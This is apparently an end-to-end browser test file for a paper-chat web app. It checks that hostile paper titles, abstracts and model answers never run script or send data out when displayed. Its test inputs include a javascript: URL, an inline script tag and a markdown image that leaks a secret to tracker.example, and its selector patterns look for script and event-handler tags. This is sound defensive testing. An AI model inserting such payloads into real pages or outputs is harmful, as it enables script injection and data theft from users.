"""What papers, readers and models write is shown everywhere, and does nothing anywhere."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.e2e.chatting import OpenChat, ask
from tests.e2e.conftest import running

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.slow

HOSTILE = Path(__file__).parents[1] / "data" / "hostile.jsonl"
TEXTS = [json.loads(line) for line in HOSTILE.read_text(encoding="utf-8").splitlines()]
PANDO = "pando-do-interpretability-methods-work-when-b10f2885"
QUESTIONS = [each["text"] for each in TEXTS if each["in"] == "question"]

# The library holds the hostile titles and abstracts beside the bundled papers. Whatever is asked,
# the answer is all that hostile models write, as it is: what the writers escape is not trusted.
_SERVER = """
import json, sys
from pathlib import Path

import ui.chat.handlers
from assistant.answer import Answer, AnswerSentence, Citation
from assistant.assistant import Assistant
from assistant.build import build_assistant
from assistant.events import Completed, Retrieved, SentenceChecked, TextDelta, Understood
from assistant.settings import load_settings
from assistant.trace import PartTrace, Round
from ui.server import serve
from vectorstore import Paper, Span

texts = [json.loads(line) for line in Path(sys.argv[3]).read_text(encoding="utf-8").splitlines()]
of = lambda place: [each["text"] for each in texts if each["in"] == place]
papers = [
    Paper(f"hostile-{n}", title, abstract, (title,), 1, url="javascript:window.harmed=1")
    for n, (title, abstract) in enumerate(
        [(title, "It says nothing.") for title in of("title")]
        + [(f"On {text.split()[0]}", text) for text in of("abstract")]
    )
]
markers = "".join(f" [{n}]" for n, _ in enumerate(papers, 1))
WRITTEN = "\\n\\n".join([*of("output"), "All of it" + markers])
ui.chat.handlers.follow_ups = lambda *_, **__: of("question")


class Obeying(Assistant):
    def stream(self, question, **bounds):
        standalone = question + "?"
        yield Understood(standalone)
        yield Retrieved(tuple(self.library.search("obscure topics", top_k=4)))
        for start in range(0, len(WRITTEN), 7):
            yield TextDelta(WRITTEN[start : start + 7])
        sentences = tuple(
            AnswerSentence(text.removesuffix(" [1]."), (1,), verdict, 0.5, reason=text)
            for text, verdict in zip(of("output"), ["partly", "unsupported"] * 20)
        )
        yield from map(SentenceChecked, sentences)
        citations = tuple(
            Citation(n, paper, Span(0, len(paper.abstract))) for n, paper in enumerate(papers, 1)
        )
        trace = (PartTrace(standalone, (Round((standalone,), ("a",), 1),), "supported"),)
        yield Completed(
            Answer(
                question, standalone, WRITTEN, False, of("output")[0], sentences, citations, (),
                {"write": 1.0}, trace, cut=of("output")[1], fell_back=of("output")[2],
            )
        )


assistant = build_assistant(load_settings(library=Path(sys.argv[1])))
assistant.library.add(papers)
assistant.__class__ = Obeying
serve(assistant, port=int(sys.argv[2]), announce=lambda url: print(url, flush=True))
"""


@pytest.fixture(scope="module")
def server(copy_library: Callable[[], Path]) -> Iterator[str]:
    """Yield the address of a server whose answers mean harm."""
    with running(copy_library(), str(HOSTILE), script=_SERVER) as address:
        yield address


def assert_nothing_lives(page: "Page") -> None:
    assert page.evaluate("window.harmed") is None
    assert len(page.frames) == 1
    assert (
        page.evaluate(
            """() => [...document.querySelectorAll(
                ":is(#chat, #sources, #history, #popover, #examples, .view)"
                + " :is(script, style, link, meta, base, img, image, iframe, object, embed, video,"
                + " audio, foreignObject, template)"
            )].map(each => each.outerHTML.slice(0, 200))"""
        )
        == []
    )
    addresses = page.evaluate(
        "() => [...document.querySelectorAll('a, area, form, use')].map(each =>"
        " each.getAttribute('href') ?? each.getAttribute('action')"
        " ?? each.getAttribute('xlink:href')).filter(Boolean)"
    )
    assert [each for each in addresses if not each.startswith(("#", "./", "http"))] == []
    handlers = page.evaluate(
        "() => [...document.querySelectorAll('.thread *, .sections *, .history *')].flatMap("
        "each => each.getAttributeNames()).filter(name => name.startsWith('on')"
        " || name === 'style' || name === 'srcdoc')"
    )
    assert handlers == []


def glance_at_everything(page: "Page", selector: str) -> int:
    """Point at each element; return how many showed something."""
    shown: int = page.evaluate(
        """selector => {
            let shown = 0;
            for (const each of document.querySelectorAll(selector)) {
                each.dispatchEvent(new PointerEvent("pointerover", { bubbles: true }));
                shown += !document.querySelector("#popover").hidden;
                if (document.querySelector("#popover :is(script, img, iframe)")) return -1;
            }
            return shown;
        }""",
        selector,
    )
    return shown


def test_the_set_is_large_and_of_many_kinds() -> None:
    assert len(TEXTS) >= 60
    assert len({each["id"] for each in TEXTS}) == len(TEXTS)
    assert {each["in"] for each in TEXTS} == {"title", "abstract", "question", "output"}
    kinds = {"html", "markdown", "svg", "data", "css", "katex", "template"}
    assert kinds <= {each["kind"] for each in TEXTS}


def test_nothing_runs_or_leaves_wherever_it_is_shown(open_chat: OpenChat) -> None:
    page = open_chat()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    reply = ask(page, QUESTIONS[0])
    assert page.locator("#chat .question").inner_text() == QUESTIONS[0]
    assert_nothing_lives(page)
    n_papers = sum(each["in"] in {"title", "abstract"} for each in TEXTS)
    assert page.locator("#sources .card").count() == n_papers
    shown = reply.inner_text()
    assert "<script>window.harmed=1</script> forty-two" in shown
    assert "![chart](https://tracker.example/chart.png?q=secret)" in shown

    reply.locator(".steps summary").click()
    assert glance_at_everything(page, "#chat .marker") >= n_papers
    assert glance_at_everything(page, "#chat .doubt-mark") > 10
    assert page.locator("#chat .suggestions button").count() == len(QUESTIONS)
    page.locator("#sources .why summary").first.click()
    page.locator("#sources [data-action='ask-paper']").first.click()
    assert_nothing_lives(page)

    reply.locator("[data-action='link']").click()
    link = reply.locator(".note input").input_value()
    for question in QUESTIONS[1:]:
        page.click("#new-chat")
        page.wait_for_selector("#welcome:visible")
        ask(page, question)
    page.reload()
    page.wait_for_selector("#chat .question")
    page.locator("#history .open").nth(len(QUESTIONS) - 1).wait_for()
    assert_nothing_lives(page)

    page.click("[data-show-view='papers']")
    page.fill("#papers-filter", "considered harmful")
    page.wait_for_selector("#view-papers :text('Considered Harmful'):visible")
    assert_nothing_lives(page)

    other = open_chat()
    other.goto(link)
    other.wait_for_selector("#chat .question")
    assert_nothing_lives(other)
    assert dialogs == []


def test_nothing_runs_or_leaves_in_a_plan_or_a_section(open_chat: OpenChat) -> None:
    page = open_chat()
    page.evaluate("window.citewise.show('writing')")
    titles = [each["text"] for each in TEXTS if each["in"] == "title"]
    hostile = [
        {"paper_id": f"hostile-{n}", "title": title, "year": 2024} for n, title in enumerate(titles)
    ]
    left_out = [{"paper_id": title, "title": title, "reason": title} for title in titles]
    themes = [
        {"name": titles[0], "papers": [{"paper_id": PANDO, "title": "Pando"}, *hostile[:9]]},
        {"name": titles[1], "papers": hostile[9:]},
    ]
    plan = {"topic": titles[0], "themes": themes, "claims": [], "considered": left_out}
    page.evaluate("plan => window.citewise.writing.setPlan(plan)", plan)
    page.click("#writing .left-out summary")
    assert page.locator("#writing .themes [data-paper^='hostile-']").count() == len(titles)
    assert page.locator("#writing .left-out li").count() == len(titles)
    assert_nothing_lives(page)
    page.click("[data-writing=write]")
    page.wait_for_selector("#writing .takeaway:visible")
    page.click("#writing .considered summary")
    assert page.locator("#writing .text h4").first.inner_text() == titles[0]
    assert page.locator("#writing .considered li").count() >= len(titles)
    n_markers = page.locator("#writing .text .marker").count()
    assert glance_at_everything(page, "#writing .text .marker") == n_markers > 0
    assert_nothing_lives(page)
